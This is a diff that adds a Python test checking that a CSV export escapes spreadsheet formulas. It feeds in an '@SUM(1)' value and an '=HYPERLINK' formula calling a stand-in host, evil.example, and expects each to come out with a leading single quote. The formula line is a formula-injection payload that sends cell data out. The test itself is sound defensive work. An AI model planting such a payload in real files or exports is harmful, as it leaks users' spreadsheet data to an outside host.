@@ -84,6 +84,17 @@ def test_the_csv_has_a_header_and_the_same_as_the_json(faxline: Faxline) -> None
     ]
 
 
+def test_the_csv_has_no_cell_that_a_spreadsheet_computes(
+    faxline: Faxline, store: Store, redis_client: redis.Redis
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    order: Any = redis_client.xadd(store.keys.orders, {"order": "resume", "user": "@SUM(1)"})
+    store.orders.pause_or_resume(order.decode(), "resume", formula)
+    redis_client.xadd(store.keys.audit, {"at": "1", "who": "w", "what": "w", "outcome": "o", "code": "-3010"})
+    *_, told, call = csv.DictReader(io.StringIO("\n".join(faxline("--csv"))))
+    assert (told["who"], told["user"], call["code"]) == (f"'{formula}", "'@SUM(1)", "-3010")
+
+
 def test_more_than_a_page_is_read_to_the_end(
     faxline: Faxline, store: Store, redis_client: redis.Redis
 ) -> None:
